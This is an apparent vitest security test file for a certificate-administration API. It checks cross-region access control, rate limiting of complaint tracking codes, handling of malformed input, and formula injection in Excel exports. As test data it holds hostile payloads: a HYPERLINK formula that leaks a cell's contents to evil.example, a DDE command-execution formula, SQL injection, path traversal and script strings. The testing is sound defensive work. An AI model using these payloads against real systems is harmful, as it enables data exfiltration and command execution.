import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { drainJobs, idleJobs } from '../src/modules/jobs/jobs.service.ts';
import { client, orgIdByName } from './helpers/api.ts';
import { makeTestApp, type TestApp } from './helpers/test-app.ts';

/**
 * Issue 17 part 4, an attacker's review of the newest routes (violations and sanctions, the certificate picker, anomaly
 * signals, inspections, complaints and their tracking codes, statistics, the ledger export and the batch archive, the
 * audit browser):
 *  - IDOR: HR of another province and of another city, a school of another district and a candidate neither see nor
 *    act on the Lingang institution's records (HR of Shanghai and of Pudong do: the positive control);
 *  - tracking codes: long random codes, and guessing them is rate-limited;
 *  - absurd ranges, paging and filters: a clear 4xx (or an empty page), never a 500, never a slow query;
 *  - NUL, lone surrogates and oversize text in these routes' bodies: 400;
 *  - formula injection: text starting with `=`, `+`, `-`, `@` is a plain string in the .xlsx files, never a formula.
 * One app for the file; the demo world's 临港 institution (Pudong, Shanghai) is the target.
 */
type Call = ReturnType<typeof client>;
let t: TestApp;
let as: Record<string, Call>;
let institutionId: string;
let closedPlanId: string;
let violationId: string;
let inspectionId: string;
let complaintId: string;
let trackingCode: string;
let lingangCertificate: { id: string; number: string };

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', '+1+1 加号开头', '-2+3 减号开头', '@SUM(1,2) 艾特开头', "=cmd|' /C calc'!A0"];
const USERS = ['sh_hr', 'pd_hr', 'qz_hr', 'fj_hr', 'sh_edu', 'lg_school_admin', 'yp_school_admin', 'candidate', 'admin'] as const;
/** Outsiders to the Lingang institution: another province, another city's bureau, a school of another district, a candidate. */
const OUTSIDERS = ['qz_hr', 'fj_hr', 'yp_school_admin', 'candidate'] as const;

beforeAll(async () => {
  t = await makeTestApp();
  as = {};
  for (const u of USERS) as[u] = client(t, await t.login(u));
  const hr = as.sh_hr!;
  institutionId = (await as.lg_school_admin!('GET', '/api/institutions')).body.items[0].id;
  const plans = (await as.lg_school_admin!('GET', '/api/plans?pageSize=50')).body.items as { id: string }[];
  const certs = (await hr('GET', `/api/certificates?institutionId=${institutionId}&status=valid&pageSize=5`)).body.items as {
    id: string;
    number: string;
    planId: string;
  }[];
  expect(certs.length).toBeGreaterThan(1);
  lingangCertificate = certs[0]!;
  closedPlanId = certs[0]!.planId ?? plans[0]!.id;

  const v = await hr('POST', '/api/violations', {
    institutionId,
    type: '考务违规',
    severity: 'minor',
    description: `${FORMULAS[1]}：监考人员不足`,
    occurredOn: '2026-03-02',
    rule: '《评价机构管理办法》第十九条',
  });
  expect(v.status, JSON.stringify(v.body)).toBe(201);
  violationId = v.body.id;
  const i = await hr('POST', '/api/inspections', { institutionId, kind: 'ad_hoc', title: `${FORMULAS[0]} 专项检查` });
  expect(i.status, JSON.stringify(i.body)).toBe(201);
  inspectionId = i.body.id;
  const lodged = await client(t)('POST', '/api/public/complaints', {
    institutionId,
    matter: FORMULAS[0],
    name: FORMULAS[3],
    contact: FORMULAS[2],
  });
  expect(lodged.status, JSON.stringify(lodged.body)).toBe(201);
  trackingCode = lodged.body.trackingCode;
  const listed = (await hr('GET', '/api/complaints?pageSize=100')).body.items as { id: string; trackingCode: string }[];
  complaintId = listed.find((c) => c.trackingCode === trackingCode)!.id;
  const me = (await hr('GET', '/api/auth/me')).body;
  expect((await hr('POST', `/api/complaints/${complaintId}/assign`, { userId: me.id })).status).toBe(200);
  const answered = await hr('POST', `/api/complaints/${complaintId}/answer`, { answer: FORMULAS[4] });
  expect(answered.status, JSON.stringify(answered.body)).toBe(200);
});
afterAll(async () => t.close());

/** Refused: 403 (the role has no such action) or 404 (out of scope: existence not confirmed). Never 200, never 5xx. */
function expectRefused(res: { status: number; body: unknown }, what: string) {
  expect([403, 404], `${what}: ${res.status} ${JSON.stringify(res.body)}`).toContain(res.status);
}

async function runJobs() {
  await drainJobs(t.db);
  await idleJobs(t.db);
}

async function download(cookieOf: string, url: string): Promise<{ status: number; data: Buffer }> {
  const res = await t.app.inject({ method: 'GET', url, headers: { cookie: await t.login(cookieOf) } });
  return { status: res.statusCode, data: res.rawPayload };
}

describe('IDOR: the Lingang institution’s newest records, from outside', () => {
  it('violations and sanctions: outsiders neither read, list, appeal, sanction, lift nor close', async () => {
    for (const u of ['sh_hr', 'pd_hr', 'lg_school_admin']) expect((await as[u]!('GET', `/api/violations/${violationId}`)).status, u).toBe(200);
    for (const u of OUTSIDERS) {
      const call = as[u]!;
      expectRefused(await call('GET', `/api/violations/${violationId}`), `${u} reads`);
      const list = await call('GET', `/api/violations?pageSize=100`);
      if (list.status === 200)
        expect(
          (list.body.items as { id: string }[]).map((x) => x.id),
          u,
        ).not.toContain(violationId);
      else expectRefused(list, `${u} lists`);
      const filtered = await call('GET', `/api/violations?institutionId=${institutionId}`);
      if (filtered.status === 200) expect(filtered.body.items, u).toEqual([]);
      else expectRefused(filtered, `${u} lists by institution`);
      expectRefused(await call('POST', `/api/violations/${violationId}/appeals`, { reason: '不服处理决定，申请复核' }), `${u} appeals`);
      expectRefused(await call('POST', `/api/violations/${violationId}/sanctions`, { kind: 'warning' }), `${u} sanctions`);
      expectRefused(await call('POST', `/api/violations/${violationId}/close`, { reason: '外部人员结案' }), `${u} closes`);
    }
    // A suspension HR of Shanghai imposes: outsiders cannot lift it; HR of Shanghai can (the positive control).
    const sanctioned = await as.sh_hr!('POST', `/api/violations/${violationId}/sanctions`, { kind: 'suspend_institution', until: '2099-12-31' });
    expect(sanctioned.status, JSON.stringify(sanctioned.body)).toBeLessThan(300);
    const sanctionId = (sanctioned.body.sanctions as { id: string }[]).at(-1)!.id;
    for (const u of OUTSIDERS) expectRefused(await as[u]!('POST', `/api/sanctions/${sanctionId}/lift`, { reason: '外部人员解除处罚' }), `${u} lifts`);
    const lifted = await as.sh_hr!('POST', `/api/sanctions/${sanctionId}/lift`, { reason: '测试结束，解除' });
    expect(lifted.status, JSON.stringify(lifted.body)).toBeLessThan(300);
    // HR of Quanzhou records a violation against a Shanghai institution: refused, nothing stored.
    expectRefused(
      await as.qz_hr!('POST', '/api/violations', {
        institutionId,
        type: '考务违规',
        severity: 'minor',
        description: '跨区域登记',
        occurredOn: '2026-03-02',
        rule: '第十九条',
      }),
      'qz_hr records',
    );
    const after = (await as.sh_hr!('GET', `/api/violations?institutionId=${institutionId}&pageSize=100`)).body.items as { description: string }[];
    expect(after.map((x) => x.description)).not.toContain('跨区域登记');
  });

  it('revoking named certificates and the certificate picker: another region can neither find nor revoke them', async () => {
    for (const u of ['qz_hr', 'fj_hr']) {
      const picker = await as[u]!('GET', `/api/certificates?institutionId=${institutionId}&pageSize=100`);
      if (picker.status === 200) expect(picker.body.items, u).toEqual([]);
      else expectRefused(picker, `${u} picker`);
      const byNumber = await as[u]!('GET', `/api/certificates?q=${encodeURIComponent(lingangCertificate.number)}`);
      if (byNumber.status === 200) expect(byNumber.body.items, u).toEqual([]);
      else expectRefused(byNumber, `${u} picker by number`);
    }
    // Quanzhou's own institution with Lingang's certificate named in the sanction: refused, the certificate stays valid.
    const qzInstitution = (await as.qz_hr!('GET', '/api/institutions?pageSize=5')).body.items[0]?.id as string | undefined;
    if (qzInstitution) {
      const res = await as.qz_hr!('POST', '/api/violations', {
        institutionId: qzInstitution,
        type: '证书违规',
        severity: 'serious',
        description: '借他人之手吊销证书',
        occurredOn: '2026-03-02',
        rule: '第二十条',
        sanction: { kind: 'revoke_certificates', certificateIds: [lingangCertificate.id] },
      });
      expect([400, 403, 404, 422], JSON.stringify(res.body)).toContain(res.status);
    }
    const pub = await client(t)('GET', `/api/public/certificates/${lingangCertificate.number}`);
    expect(pub.body.status).toBe('valid');
    expectRefused(
      await as.yp_school_admin!('POST', `/api/certificates/${lingangCertificate.id}/revoke`, { reason: '另一学校试图吊销' }),
      'another school revokes',
    );
    expectRefused(await as.candidate!('GET', `/api/certificates?institutionId=${institutionId}`), 'a candidate picks');
  });

  it('inspections: outsiders neither read, list, write findings, add items nor close', async () => {
    for (const u of ['sh_hr', 'pd_hr', 'lg_school_admin']) expect((await as[u]!('GET', `/api/inspections/${inspectionId}`)).status, u).toBe(200);
    for (const u of OUTSIDERS) {
      const call = as[u]!;
      expectRefused(await call('GET', `/api/inspections/${inspectionId}`), `${u} reads`);
      const list = await call('GET', `/api/inspections?institutionId=${institutionId}`);
      if (list.status === 200) expect(list.body.items, u).toEqual([]);
      else expectRefused(list, `${u} lists`);
      expectRefused(await call('PUT', `/api/inspections/${inspectionId}/findings`, { findings: '篡改检查发现' }), `${u} findings`);
      expectRefused(await call('POST', `/api/inspections/${inspectionId}/items`, { description: '伪造整改项', dueOn: '2099-01-01' }), `${u} items`);
      expectRefused(await call('POST', `/api/inspections/${inspectionId}/close`, {}), `${u} closes`);
    }
    const still = await as.sh_hr!('GET', `/api/inspections/${inspectionId}`);
    expect(JSON.stringify(still.body)).not.toContain('篡改检查发现');
    expect(JSON.stringify(still.body)).not.toContain('伪造整改项');
  });

  it('complaints: outsiders neither read, list, assign, note, answer nor download evidence', async () => {
    expect((await as.sh_hr!('GET', `/api/complaints/${complaintId}`)).status).toBe(200);
    for (const u of [...OUTSIDERS, 'lg_school_admin'] as const) {
      const call = as[u]!;
      expectRefused(await call('GET', `/api/complaints/${complaintId}`), `${u} reads`);
      const list = await call('GET', '/api/complaints?pageSize=100');
      if (list.status === 200)
        expect(
          (list.body.items as { id: string }[]).map((c) => c.id),
          u,
        ).not.toContain(complaintId);
      else expectRefused(list, `${u} lists`);
      expectRefused(await call('GET', `/api/complaints/${complaintId}/assignees`), `${u} assignees`);
      expectRefused(await call('POST', `/api/complaints/${complaintId}/notes`, { text: '外部人员的备注' }), `${u} notes`);
      expectRefused(await call('POST', `/api/complaints/${complaintId}/answer`, { answer: '外部人员的答复内容' }), `${u} answers`);
      expectRefused(await call('POST', `/api/complaints/${complaintId}/close`, {}), `${u} closes`);
      expectRefused(await call('GET', `/api/complaints/${complaintId}/evidence/${crypto.randomUUID()}`), `${u} evidence`);
    }
  });

  it('anomaly signals: outsiders see none of Shanghai’s and act on none', async () => {
    await as.sh_hr!('POST', '/api/signals/detect', {});
    const shSignals = (await as.sh_hr!('GET', '/api/signals?pageSize=100')).body.items as { id: string }[];
    expect(shSignals.length).toBeGreaterThan(0); // the demo world's (demo-signals.ts) and any this file raised
    for (const u of ['qz_hr', 'fj_hr']) {
      const theirs = await as[u]!('GET', '/api/signals?pageSize=100');
      expect(theirs.status, u).toBe(200);
      const ids = (theirs.body.items as { id: string }[]).map((s) => s.id);
      for (const s of shSignals) expect(ids, u).not.toContain(s.id);
      for (const s of shSignals.slice(0, 2)) {
        expectRefused(await as[u]!('POST', `/api/signals/${s.id}/dismiss`, { reason: '外省人员驳回' }), `${u} dismisses`);
        expectRefused(await as[u]!('POST', `/api/signals/${s.id}/inspection`, { title: '外省人员立案检查' }), `${u} opens an inspection`);
      }
    }
    for (const u of ['yp_school_admin', 'lg_school_admin', 'candidate']) expectRefused(await as[u]!('GET', '/api/signals'), `${u} lists signals`);
    expectRefused(await as.qz_hr!('POST', `/api/signals/${crypto.randomUUID()}/dismiss`, { reason: '不存在的信号' }), 'unknown signal');
  });

  it('statistics: another region’s school, district or province is 404; a school reads no other school', async () => {
    const yp = await orgIdByName(t, '上海杨浦职业技术学院');
    const lg = await orgIdByName(t, '上海临港职业技术学院');
    for (const d of ['certificates', 'pass-rates', 'coverage', 'one-plus-x', 'talent']) {
      expectRefused(await as.qz_hr!('GET', `/api/statistics/${d}?orgId=${lg}`), `qz_hr ${d} of Lingang`);
      expectRefused(await as.fj_hr!('GET', `/api/statistics/${d}?region=310115`), `fj_hr ${d} of Pudong`);
      expectRefused(await as.lg_school_admin!('GET', `/api/statistics/${d}?orgId=${yp}`), `Lingang ${d} of Yangpu`);
      expectRefused(await as.candidate!('GET', `/api/statistics/${d}`), `candidate ${d}`);
    }
    expect((await as.pd_hr!('GET', `/api/statistics/certificates?orgId=${lg}`)).status).toBe(200);
    const exported = await download('qz_hr', `/api/statistics/coverage/export.xlsx?orgId=${lg}`);
    expect([403, 404]).toContain(exported.status);
  });

  it('the ledger export, its job and file, and the batch archive: only the one who asked, only in scope', async () => {
    const started = await as.sh_hr!('POST', '/api/ledger/export', { institutionId, from: '2026-01-01', to: '2026-12-31' });
    expect(started.status, JSON.stringify(started.body)).toBe(202);
    await runJobs();
    expect((await as.sh_hr!('GET', `/api/ledger/jobs/${started.body.id}`)).status).toBe(200);
    // Another HR of the same region, a school of the institution itself and outsiders: not their job.
    for (const u of ['pd_hr', 'lg_school_admin', ...OUTSIDERS] as const) {
      expectRefused(await as[u]!('GET', `/api/ledger/jobs/${started.body.id}`), `${u} reads sh_hr's job`);
      const file = await download(u, `/api/ledger/jobs/${started.body.id}/result`);
      expect([403, 404], `${u} downloads sh_hr's file`).toContain(file.status);
    }
    for (const u of OUTSIDERS) {
      expectRefused(await as[u]!('POST', '/api/ledger/export', { institutionId, from: '2026-01-01', to: '2026-12-31' }), `${u} exports Lingang`);
      expectRefused(await as[u]!('POST', `/api/plans/${closedPlanId}/archive`), `${u} archives Lingang's plan`);
      expectRefused(await as[u]!('GET', `/api/ledger?institutionId=${institutionId}`), `${u} browses Lingang`);
    }
  });

  it('the audit browser: another region finds no entry about the Lingang records; schools and candidates none at all', async () => {
    // Entries about an institution name it as their target (violation.record, inspection.*, complaint.*).
    const mine = await as.sh_hr!('GET', `/api/audit?targetId=${institutionId}&pageSize=100`);
    expect(mine.status).toBe(200);
    expect((mine.body.items as { action: string }[]).map((e) => e.action)).toContain('violation.record');
    for (const u of ['qz_hr', 'fj_hr']) {
      for (const q of [`targetId=${institutionId}`, 'action=violation.record', 'actor=sh_hr', `targetId=${complaintId}`]) {
        const res = await as[u]!('GET', `/api/audit?${q}&pageSize=100`);
        expect(res.status, u).toBe(200);
        expect(res.body.items, `${u} audit ?${q}`).toEqual([]);
      }
    }
    for (const u of ['lg_school_admin', 'yp_school_admin', 'candidate', 'sh_edu']) expectRefused(await as[u]!('GET', '/api/audit'), `${u} audit`);
  });
});

describe('complaint tracking codes: not guessable, guessing is throttled', () => {
  const track = (code: string, address: string, headers: Record<string, string> = {}) =>
    t.app.inject({ method: 'GET', url: `/api/public/complaints/${encodeURIComponent(code)}`, remoteAddress: address, headers });

  it('R10: a code is 10 symbols of a 31-letter alphabet (≈ 50 bits, from the CSPRNG), typed in any case or spacing', async () => {
    expect(trackingCode).toMatch(/^[A-Z2-9]{5}-[A-Z2-9]{5}$/);
    const ok = await track(` ${trackingCode.toLowerCase().replace('-', ' ')} `, '198.51.100.31');
    expect(ok.statusCode, ok.body).toBe(200);
    // What the holder of the code sees never carries the complainant's name or contact.
    expect(ok.body).not.toContain(FORMULAS[2]!);
    expect(ok.body).not.toContain(FORMULAS[3]!);
  });

  it('R10: 20 guesses a minute per address, then 429 — also for the right code, and X-Forwarded-For does not reset it', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 22; i++) {
      const guess = `${trackingCode.slice(0, 9)}${'ABCDEFGHJKLMNPQRSTUVWXYZ23456789'[i]}`;
      if (guess === trackingCode) continue;
      statuses.push((await track(guess, '198.51.100.32', { 'x-forwarded-for': `10.1.1.${i}` })).statusCode);
    }
    expect(statuses.slice(0, 20).every((s) => s === 404)).toBe(true);
    expect(statuses.at(-1)).toBe(429);
    const right = await track(trackingCode, '198.51.100.32', { 'x-forwarded-for': '10.9.9.9' });
    expect(right.statusCode).toBe(429);
    expect(right.json().error.code).toBe('RATE_LIMITED');
    // Another address is not affected.
    expect((await track(trackingCode, '198.51.100.33')).statusCode).toBe(200);
  });

  it('malformed codes: a clear 400 or 404, never a 500', async () => {
    for (const code of ['x', 'A'.repeat(5000), '../../etc/passwd', "' OR 1=1 --", '%00', '😀😀😀😀😀', 'ＡＢＣＤＥ－ＦＧＨＪＫ']) {
      const res = await track(code, '198.51.100.34');
      // 414: a path parameter longer than the router takes — in the one error shape, the URL not echoed.
      expect([400, 404, 414], `${code.slice(0, 20)}: ${res.statusCode} ${res.body.slice(0, 300)}`).toContain(res.statusCode);
      expect(res.json().error.code).toBeTypeOf('string');
      expect(res.body).not.toContain('AAAAAAAAAA');
    }
    // A URL that does not decode (a cut UTF-8 sequence): 400 in the one error shape.
    const bad = await t.app.inject({ method: 'GET', url: '/api/public/complaints/%E0%A4%A', remoteAddress: '198.51.100.35' });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error.code).toBe('REQUEST.INVALID');
  });
});

describe('absurd ranges, paging and filters on the newest lists and dashboards: 4xx or an empty page, fast, never 500', () => {
  it('each answers within 3 s with a 200 or a 4xx in the one error shape', async () => {
    const urls = [
      '/api/violations?page=999999999999&pageSize=100',
      '/api/violations?pageSize=1000000',
      '/api/violations?status=%3Cscript%3E',
      '/api/violations?institutionId=not-a-uuid',
      "/api/inspections?institutionId=' OR 1=1 --",
      '/api/inspections?page=-1',
      '/api/signals?status=all&pageSize=0',
      `/api/certificates?q=${'证'.repeat(51)}`,
      '/api/certificates?page=1e20',
      '/api/complaints?mine=maybe',
      '/api/complaints?status=%00',
      '/api/audit?from=0001-01-01T00:00:00Z&to=9999-12-31T23:59:59Z',
      '/api/audit?from=2026-13-45T00:00:00Z',
      '/api/audit?seq=99999999999999999999',
      '/api/audit?pageSize=1000000000',
      `/api/audit?actor=${'a'.repeat(10_000)}`,
      '/api/statistics/certificates?from=0000-01&to=9999-12',
      '/api/statistics/talent?level=1e309',
      '/api/statistics/talent?level=-1',
      '/api/statistics/one-plus-x?region=310115%00',
      '/api/statistics/coverage?orgId=00000000-0000-0000-0000-000000000000',
      '/api/statistics/filing-coverage?from=2026-02&to=2026-01',
      '/api/statistics/talent/export.xlsx?from=1900-01&to=2100-12',
      '/api/ledger?from=0001-01-01&to=9999-12-31',
      '/api/ledger?page=100000000000000000000',
      '/api/ledger?part=__proto__',
    ];
    for (const url of urls) {
      const started = Date.now();
      const res = await as.sh_hr!('GET', url);
      const took = Date.now() - started;
      expect(res.status, `${url}: ${JSON.stringify(res.body)}`).toBeLessThan(500);
      expect(took, url).toBeLessThan(3000);
      if (res.status >= 400) expect(res.body.error.code, url).toBeTypeOf('string');
    }
    const wideAudit = await as.sh_hr!('GET', '/api/audit?from=0001-01-01T00:00:00Z&to=9999-12-31T23:59:59Z&pageSize=5');
    expect(wideAudit.status).toBe(200);
  });

  it('the certificate picker treats % and _ as letters, not wildcards (no listing of everything by a pattern)', async () => {
    for (const q of ['%', '_', '%%', '__________']) {
      const res = await as.sh_hr!('GET', `/api/certificates?q=${encodeURIComponent(q)}&pageSize=5`);
      expect(res.status, q).toBe(200);
      expect(res.body.items, `q=${q}`).toEqual([]);
    }
  });
});

describe('NUL, lone surrogates and oversize text in the newest routes’ bodies: 400 (or 413), nothing stored', () => {
  it('violations, inspections, complaint notes and answers, public complaints', async () => {
    const hr = as.sh_hr!;
    const violation = (over: Record<string, unknown>) => ({
      institutionId,
      type: '考务违规',
      severity: 'minor',
      description: '正常描述',
      occurredOn: '2026-03-02',
      rule: '第十九条',
      ...over,
    });
    const violationsBefore = (await hr('GET', `/api/violations?institutionId=${institutionId}&pageSize=100`)).body.total as number;
    const attempts: [string, Promise<{ status: number; body: unknown }>][] = [
      ['NUL in a violation', hr('POST', '/api/violations', violation({ description: 'a\u0000b' }))],
      ['a lone surrogate in a violation', hr('POST', '/api/violations', violation({ type: '\uD800违规' }))],
      ['an oversize violation', hr('POST', '/api/violations', violation({ description: 'x'.repeat(200_000) }))],
      [
        '100k certificates named',
        hr(
          'POST',
          '/api/violations',
          violation({ sanction: { kind: 'revoke_certificates', certificateIds: Array.from({ length: 100_000 }, () => crypto.randomUUID()) } }),
        ),
      ],
      ['a far date', hr('POST', '/api/violations', violation({ occurredOn: '99999-01-01' }))],
      ['a lone surrogate in an inspection title', hr('POST', '/api/inspections', { institutionId, kind: 'ad_hoc', title: '检查\uDFFF' })],
      ['oversize findings', hr('PUT', `/api/inspections/${inspectionId}/findings`, { findings: 'x'.repeat(500_000) })],
      ['NUL in a note', hr('POST', `/api/complaints/${complaintId}/notes`, { text: '备注\u0000' })],
      ['an oversize note', hr('POST', `/api/complaints/${complaintId}/notes`, { text: 'x'.repeat(100_000) })],
    ];
    for (const [what, p] of attempts) {
      const res = await p;
      expect([400, 413], `${what}: ${res.status} ${JSON.stringify(res.body).slice(0, 300)}`).toContain(res.status);
      expect((res.body as { error: { code: string } }).error.code, what).toBeTypeOf('string');
    }
    const cookie = await t.login('sh_hr');
    for (const depth of [5_000, 100_000]) {
      const res = await t.app.inject({
        method: 'POST',
        url: `/api/complaints/${complaintId}/notes`,
        headers: { cookie, 'content-type': 'application/json' },
        payload: `{"text":${'['.repeat(depth)}${']'.repeat(depth)}}`,
      });
      expect([400, 413], `nesting ${depth}: ${res.statusCode} ${res.body.slice(0, 300)}`).toContain(res.statusCode);
      expect(res.json().error.code).toBeTypeOf('string');
    }
    const anon = (payload: unknown) =>
      t.app.inject({ method: 'POST', url: '/api/public/complaints', remoteAddress: '198.51.100.41', payload: payload as Record<string, unknown> });
    for (const matter of ['投诉\u0000内容', '\uD83D投诉内容', 'x'.repeat(1_000_000)]) {
      const res = await anon({ institutionId, matter, name: '投诉人', contact: '13900001111' });
      expect([400, 413], `${res.statusCode} ${res.body.slice(0, 200)}`).toContain(res.statusCode);
    }
    const stored = await hr('GET', `/api/complaints/${complaintId}`);
    expect(JSON.stringify(stored.body)).not.toContain('备注\\u0000');
    expect((await hr('GET', `/api/violations?institutionId=${institutionId}&pageSize=100`)).body.total).toBe(violationsBefore);
  });
});

/** Every worksheet of an .xlsx: no formula anywhere (raw XML and as exceljs reads it); returns the string cells. */
async function stringCells(data: Buffer): Promise<string[]> {
  const files = unzipSync(new Uint8Array(data));
  const sheets = Object.keys(files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n));
  expect(sheets.length).toBeGreaterThan(0);
  for (const n of sheets) expect(strFromU8(files[n]!), n).not.toMatch(/<f[\s>/]/);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(data as unknown as ArrayBuffer);
  const texts: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    ),
  );
  return texts;
}

describe('formula injection in the exports: text starting with = + - @ stays text in the .xlsx', () => {
  it('the ledger export’s 投诉 sheet: a complaint’s matter and HR’s answer', async () => {
    const cookie = await t.login('sh_hr');
    const started = await client(t, cookie)('POST', '/api/ledger/export', { institutionId, from: '2026-01-01', to: '2026-12-31' });
    expect(started.status, JSON.stringify(started.body)).toBe(202);
    await runJobs();
    const res = await t.app.inject({ method: 'GET', url: `/api/ledger/jobs/${started.body.id}/result`, headers: { cookie } });
    expect(res.statusCode).toBe(200);
    const texts = await stringCells(res.rawPayload);
    expect(texts).toContain(FORMULAS[0]);
    expect(texts).toContain(FORMULAS[4]);
  });
});

describe('formula injection in the statistics exports', () => {
  it('a school and a major named with formulas stay text in the coverage and filing-coverage workbooks', async () => {
    const name = `=1+2 ${FORMULAS[3]}学院`;
    const org = await as.admin!('POST', '/api/organisations', { kind: 'school', name, regionCode: '310115', schoolType: 'higher_vocational' });
    expect(org.status, JSON.stringify(org.body)).toBe(201);
    const major = `-1+1 ${FORMULAS[1]}专业`;
    const added = await as.admin!('POST', `/api/organisations/${org.body.id}/majors`, { code: '460305', name: major });
    expect(added.status, JSON.stringify(added.body)).toBeLessThan(300);
    const found: string[] = [];
    for (const dashboard of ['coverage', 'filing-coverage']) {
      const res = await download('sh_hr', `/api/statistics/${dashboard}/export.xlsx`);
      expect(res.status, dashboard).toBe(200);
      found.push(...(await stringCells(res.data)).filter((s) => s.includes(name) || s.includes(major)));
    }
    expect(found.some((s) => s.startsWith('=1+2'))).toBe(true);
  });
});
